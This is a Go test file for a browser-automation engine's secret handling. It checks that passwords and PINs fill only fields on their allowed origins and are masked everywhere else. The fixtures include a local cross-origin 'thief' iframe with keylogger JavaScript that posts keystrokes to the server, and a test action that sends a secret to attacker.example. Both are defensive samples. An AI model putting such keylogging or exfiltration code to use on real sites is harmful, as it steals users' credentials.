package engine

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// The secret has everything in it that is spelled in another way somewhere.
const hidden = `p&s <w>"ö/+%1`

// vault is a site with forms on two origins, and what it was sent.
type vault struct {
	own, other string
	mu         sync.Mutex
	got        []string
}

func newVault(t *testing.T) *vault {
	v := &vault{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/got":
			b, _ := io.ReadAll(r.Body)
			v.mu.Lock()
			v.got = append(v.got, string(b))
			v.mu.Unlock()
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]string{"echo": string(b)})
			return
		case "/outer": // holds a frame of the other origin, and hands it the focus whenever it can
			fmt.Fprintf(w, `<input id=f><iframe id=thief src="%s/thief"></iframe><script>
				const give=()=>{document.getElementById('thief').focus();document.getElementById('thief').contentWindow.focus()};
				for(const e of ['focus','beforeinput','input','keydown'])f.addEventListener(e,give)</script>`, v.other)
			return
		case "/thief":
			fmt.Fprint(w, `<input id=f autofocus><script>const tell=s=>fetch('/got',{method:'POST',body:'thief:'+s});
				addEventListener('keydown',e=>tell(e.key));addEventListener('input',()=>tell(f.value));setInterval(()=>f.focus(),1)</script>`)
			return
		case "/picky": // fields that take a part of a text, another one, and none
			fmt.Fprint(w, `<input id=short maxlength=6><input id=up oninput="this.value=this.value.toUpperCase()"><input id=none oninput="this.value=''"><x-in id=x></x-in><script>
				customElements.define('x-in',class extends HTMLElement{connectedCallback(){const i=this.attachShadow({mode:'open'}).appendChild(document.createElement('textarea'));i.maxLength=5}})</script>`)
			return
		case "/told": // a form that has words, in a closed shadow root
			fmt.Fprint(w, `<x-in id=x></x-in><script>
				customElements.define('x-in',class extends HTMLElement{connectedCallback(){window.inside=this.attachShadow({mode:'closed'});inside.innerHTML='<label>Password <input></label>'}})</script>`)
			return
		case "/around":
			fmt.Fprintf(w, `<label>Password <input></label><iframe src="%s/told"></iframe>`, v.other)
			return
		case "/same":
			fmt.Fprint(w, `<iframe id=i src="/"></iframe>`)
			return
		}
		fmt.Fprint(w, `<input id=f><input id=n type=number><input id=d type=date><textarea id=t></textarea><div id=e contenteditable></div><form name=execCommand></form><script>
			const seen=[];addEventListener('input',e=>seen.push(e.isTrusted&&e.inputType))</script>`)
	}))
	t.Cleanup(srv.Close)
	v.own, v.other = srv.URL, strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	return v
}

func (v *vault) all() string {
	v.mu.Lock()
	defer v.mu.Unlock()
	return strings.Join(v.got, "\n")
}

func (v *vault) stage() TaskEnv {
	return TaskEnv{Secrets: []Secret{
		{Name: "pass", Value: hidden, Origins: []string{v.own}}, {Name: "pin", Value: "904817", Origins: []string{v.own}},
		{Name: "elsewhere", Value: "other value", Origins: []string{"https://shop.example"}},
	}}
}

// TestSecretsStandInFillOnly: everywhere else the value could be read.
func TestSecretsStandInFillOnly(t *testing.T) {
	const s = `${secret:pass}`
	for body, want := range map[string]string{
		`{"actions":[{"fill":["#a","` + s + `"]}]}`:                                                 "",
		`{"actions":[{"loop":{"repeat":2,"do":[{"fill":["#a","x ${k} ` + s + `"]}]}}]}`:             "",
		`{"actions":[{"evaluate":"return '$` + s + `'"},{"fill":["#a","$` + s + `"]}]}`:             "", // $$ is a dollar sign
		`{"actions":[{"fill":["` + s + `","x"]}]}`:                                                  "/actions/0/fill/0",
		`{"actions":[{"evaluate":"return '` + s + `'"}]}`:                                           "/actions/0/evaluate",
		`{"actions":[{"open":"https://attacker.example/?` + s + `"}]}`:                              "/actions/0/open",
		`{"actions":[{"evaluate":"return '\u0024{\u0073ecret:pass}'"}]}`:                            "/actions/0/evaluate",
		`{"actions":[{"if":{"condition":"a","then":[{"selectOption":["#a","` + s + `"]}]}}]}`:       "/actions/0/if/then/0/selectOption/1",
		`{"actions":[{"extractAll":["a",{"` + s + `":"b"}]}]}`:                                      "/actions/0/extractAll/1/${secret:pass}",
		`{"actions":[{"fill":["#a","x"],"options":{"iframe":"` + s + `"}}]}`:                        "/actions/0/options/iframe",
		`{"actions":[{"setCookies":[{"name":"a","value":"` + s + `","url":"https://x.example"}]}]}`: "/actions/0/setCookies/0/value",
		`{"actions":[{"wait":1}],"workerId":"` + s + `"}`:                                           "/workerId",
		`{"actions":[{"fill":["#a","${secret:}"]}]}`:                                                "/actions/0/fill/1",
		`{"actions":[{"fill":["#a","${secret:a/b}"]}]}`:                                             "/actions/0/fill/1",
	} {
		_, err := Parse([]byte(body), nil)
		if want == "" {
			if err != nil {
				t.Errorf("%s: %v", body, err)
			}
			continue
		}
		in, ok := err.(*Invalid)
		if !ok || in.Faults[len(in.Faults)-1].Path != want || !strings.Contains(in.Faults[len(in.Faults)-1].Message, "secret") {
			t.Errorf("%s: %v, want a fault at %s", body, err, want)
		}
	}
}

// TestSecretsReachTheirPages, and are masked in everything that comes back.
func TestSecretsReachTheirPages(t *testing.T) {
	v := newVault(t)
	st := v.stage()
	cache := NewCache()
	st.Cache = cache
	var heard []StepReport
	st.OnStep = func(s StepReport) { heard = append(heard, s) }
	send := `await fetch('/got',{method:'POST',body:[f.value,t.value,e.textContent,n.value,seen.join()].join('|')})`
	o := play(t, newInstance(t), `{"config":{"trace":true,"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.own+`/"},
		{"waitForResponse":"/got"},
		{"fill":["#f","old"]},{"fill":["#f","${secret:pass}"]},{"fill":["#t","<"]},{"fill":["#t","${secret:pass}>"],"options":{"clear":false}},
		{"fill":["#e","${secret:pass}"]},{"fill":["#n","${secret:pin}"]},
		{"evaluate":`+quoted(send)+`},
		{"getValue":"#f","options":{"save":"stolen"}},{"getHTML":"#e"},{"getText":"#e"},
		{"evaluate":"return {[f.value]:[f.value,encodeURIComponent(f.value),new URLSearchParams({f:f.value}).toString(),JSON.stringify(f.value),Number(n.value),'x'+f.value+'y']}"},
		{"evaluate":"throw new Error('it is '+f.value)"},{"evaluate":"alert(f.value)"},{"evaluate":"document.body.id=f.value;return 1"},
		{"open":"`+v.own+`/?q"},{"fill":["#f","${stolen}"]},{"evaluate":"return f.value"}]}`, st)
	if want := hidden + "|<" + hidden + ">|" + hidden + "|904817|"; !strings.HasPrefix(v.all(), want) || strings.Contains(v.all(), "false") {
		t.Errorf("the page has\n%s\nwant\n%s", v.all(), want)
	}
	given, err := json.Marshal([]any{o, heard, cache})
	if err != nil {
		t.Fatal(err)
	}
	saved, _ := cache.Get("stolen")
	for what, s := range map[string]string{"the outcome, the steps or the cache": string(given), "the cache": string(saved), "failures": fmt.Sprint(o.Failures)} {
		for _, spelled := range []string{hidden, "904817", `p&amp;s`, `p%26s`, `p&s`, `p\u0026s`} {
			if strings.Contains(s, spelled) {
				t.Errorf("%s hold %s:\n%s", what, spelled, s)
			}
		}
	}
	if string(saved) != `"***"` || len(o.Failures) != 1 || !strings.Contains(o.Failures[0].Text, "it is ***") || string(o.Last) != `"***"` || len(heard) != len(o.Steps) {
		t.Errorf("saved %s, failures %v, last %s, %d and %d steps", saved, failuresOf(o), o.Last, len(heard), len(o.Steps))
	}
	if !strings.Contains(string(o.Data), `***|<***>|***|***`) {
		t.Errorf("the captured response is %s", o.Data)
	}
}

// TestSecretsThatAreNotTaken: what a page has made of one is not told, for it could
// hold a part of it.
func TestSecretsThatAreNotTaken(t *testing.T) {
	v := newVault(t)
	o := play(t, newInstance(t), `{"config":{"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.own+`/picky"},
		{"fill":["#short","${secret:pass}"]},{"fill":["#up","${secret:pass}"]},{"fill":["#x","${secret:pass}"]},{"fill":["#none","${secret:pass}"]},
		{"evaluate":"return [short.value.length,up.value.length,none.value.length,x.shadowRoot.firstChild.value.length]"}]}`, v.stage())
	if want := fmt.Sprintf("[6,%d,0,5]", len([]rune(hidden))); string(o.Data) != want {
		t.Errorf("the fields have %s characters, want %s", o.Data, want)
	}
	if len(o.Warnings) != 3 || o.Warnings[0].Message != `"#short" now holds ***: it takes at most 6 characters` || !strings.Contains(o.Warnings[1].Message, "now holds ***") || !strings.Contains(o.Warnings[2].Message, "now holds ***") {
		t.Errorf("warnings %v", o.Warnings)
	}
	failsWith(CodeInvalidValue)(t, o)
	if text := fmt.Sprint(o.Warnings, o.Failures[0].Text); !strings.Contains(text, "#none") || strings.Contains(strings.ToLower(text), hidden[:3]) {
		t.Errorf("it says %s", text)
	}
}

// TestSecretsAreChecked before they are kept: what could match no page, or could
// not be masked, is refused.
func TestSecretsAreChecked(t *testing.T) {
	for in, want := range map[string]string{
		"https://shop.example": "https://shop.example", "HTTPS://Shop.Example:443/": "https://shop.example", "http://shop.example:80": "http://shop.example", "http://shop.example:443": "http://shop.example:443",
		"http://[::1]:8080": "http://[::1]:8080",
		"shop.example":      "", "https://": "", "": "", "file:///x": "", "https://ada:pw@shop.example": "", "https://shop.example/login": "", "https://shop.example?x": "", "https://shop.example#x": "",
		"https://*.shop.example": "", "https://münchen.example": "", "javascript:x": "", "null": "", "about:blank": "", "https://a b": "",
	} {
		if got, err := ParseOrigin(in); got != want || (err == nil) != (want != "") {
			t.Errorf("the origin of %q is %q, %v", in, got, err)
		}
	}
	good := Secret{Name: "pass", Value: "1234", Origins: []string{"https://shop.example"}}
	if err := CheckSecret(good); err != nil {
		t.Error(err)
	}
	for want, change := range map[string]func(*Secret){
		"not 1 to 64": func(s *Secret) { s.Name = "a b" }, `the name ""`: func(s *Secret) { s.Name = "" }, "the name \"aaaa": func(s *Secret) { s.Name = strings.Repeat("a", 65) },
		"3 bytes": func(s *Secret) { s.Value = "123" }, "4097 bytes": func(s *Secret) { s.Value = strings.Repeat("x", MaxSecret+1) },
		"needs the origin": func(s *Secret) { s.Origins = nil }, "no origin": func(s *Secret) { s.Origins = []string{"*"} }, `is spelled "https://shop.example"`: func(s *Secret) { s.Origins = []string{"https://SHOP.example"} },
	} {
		bad := good
		change(&bad)
		if err := CheckSecret(bad); err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "123") {
			t.Errorf("%+v: %v, want %q", bad, err, want)
		}
	}
}

// TestSecretsGoWhereTheFieldIs: a field that is pointed at by what a person perceives,
// in a closed shadow root, in the page and in a frame of another origin.
func TestSecretsGoWhereTheFieldIs(t *testing.T) {
	v := newVault(t)
	read := `{"evaluate":"return inside.querySelector('input').value.length"}`
	o := play(t, newInstance(t), `{"timeout":30000,"actions":[{"open":"`+v.own+`/told"},
		{"fill":[{"or":[{"label":"Passphrase"},{"label":"Password"}]},"${secret:pin}"]},`+read+`]}`, v.stage())
	if string(o.Data) != "6" || len(o.Failures) > 0 || len(o.Warnings) != 1 {
		t.Errorf("the field has %s characters; %v, %v: want the one warning of the alternative", o.Data, failuresOf(o), o.Warnings)
	}
	o = play(t, newInstance(t), `{"config":{"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.own+`/around"},
		{"fill":[{"label":"Password"},"${secret:pin}"],"options":{"iframe":"iframe"}},{"evaluate":"return inside.querySelector('input').value.length","options":{"iframe":"iframe"}}]}`, v.stage())
	failsWith(CodeInvalidValue)(t, o)
	if string(o.Data) != "0" || !strings.Contains(o.Failures[0].Text, "not for pages of "+v.other) {
		t.Errorf("the frame has %s; %v", o.Data, failuresOf(o))
	}
}

// TestSecretsStayAway from pages of other origins, whatever those do.
func TestSecretsStayAway(t *testing.T) {
	t.Parallel()
	v := newVault(t)
	o := play(t, newInstance(t), `{"config":{"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.other+`/"},
		{"fill":["#f","${secret:pass}"]},{"fill":["#f","${secret:elsewhere}"]},{"fill":["#f","${secret:pass}${secret:elsewhere}"]},{"fill":["#f","${secret:none}"]},
		{"fill":["#d","${secret:pin}"]},
		{"evaluate":"return [f.value,d.value,seen.length]"}]}`, v.stage())
	failsWith(CodeInvalidValue, CodeInvalidValue, CodeInvalidValue, CodeInvalidValue, CodeInvalidValue)(t, o)
	if string(o.Data) != `["","",0]` || !strings.Contains(o.Failures[0].Text, "not for pages of "+v.other) || !strings.Contains(o.Failures[3].Text, `no secret "none"`) {
		t.Errorf("the page has %s; %v", o.Data, failuresOf(o))
	}

	// A frame of the same origin is one of its pages; one of another is not,
	// and gets nothing although it is handed the focus again and again.
	o = play(t, newInstance(t), `{"config":{"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.own+`/same"},
		{"fill":["#f","${secret:pin}"],"options":{"iframe":"#i"}},{"evaluate":"return document.getElementById('i').contentDocument.getElementById('f').value.length"}]}`, v.stage())
	noFailure(`6`)(t, o)
	o = play(t, newInstance(t), `{"config":{"continueOnError":true},"timeout":30000,"actions":[{"open":"`+v.own+`/outer"},{"wait":300},
		{"fill":["#f","${secret:pin}"],"options":{"timeout":3000}},{"fill":["#f","${secret:pin}"],"options":{"iframe":"#thief","timeout":2000}},{"wait":300},{"evaluate":"return f.value.length"}]}`, v.stage())
	if strings.ContainsAny(v.all(), "904817") {
		t.Errorf("the frame was given %s", v.all())
	}
	if n := len(o.Failures); n == 0 {
		t.Error("a frame of another origin was filled")
	}
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestSecretsDoNotComeTogether: values that are made from parts of a page give no
// secret, neither in data nor in what is saved and typed elsewhere.
func TestSecretsDoNotComeTogether(t *testing.T) {
	in := newInstance(t)
	url := serve(t, `<!doctype html><i id=a>hunter</i><i id=b>2 of ada</i><input id=f>`)
	cache := NewCache()
	o := play(t, in, fmt.Sprintf(`{"config":{"trace":true},"actions":[{"open":%q},{"getText":"#a","options":{"save":"a"}},{"getText":"#b","options":{"save":"b"}},
		{"set":{"whole":"${a}${b}","joined":{"$join":[["${a}","${b}"],""]},"spelled":{"$lower":"HUNTER2 OF ADA"},"base":{"$replace":["${a}x${b}","x",""]}}},
		{"fill":["#f","${whole}"]},{"getValue":"#f","options":{"save":"typed"}},{"return":{"again":"${a}${b}","saved":["${whole}","${joined}","${spelled}","${base}","${typed}"]}}]}`, url),
		TaskEnv{Cache: cache, Secrets: []Secret{{Name: "s", Value: "hunter2 of ada", Origins: []string{url}}}})
	saved, err := cache.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	all, err := json.Marshal(o)
	if err != nil || string(o.Data) != `{"again":"***","saved":["***","***","***","***","***"]}` || strings.Contains(string(all)+string(saved), "hunter2 of ada") {
		t.Errorf("the data is %s, %v, and saved is %s", o.Data, failuresOf(o), saved)
	}
	for _, task := range []string{`{"set":{"a":"${secret:s}"}}`, `{"return":{"$trim":"${secret:s}"}}`, `{"assert":{"title":["==","${secret:s}"]}}`, `{"try":{"do":[{"return":["${secret:s}"]}]}}`} {
		if got := faultsOf(t, `{"actions":[`+task+`]}`); len(got) != 1 || !strings.Contains(got[0], "a secret can stand only in the text of fill") {
			t.Errorf("%s has the faults %q", task, got)
		}
	}
}
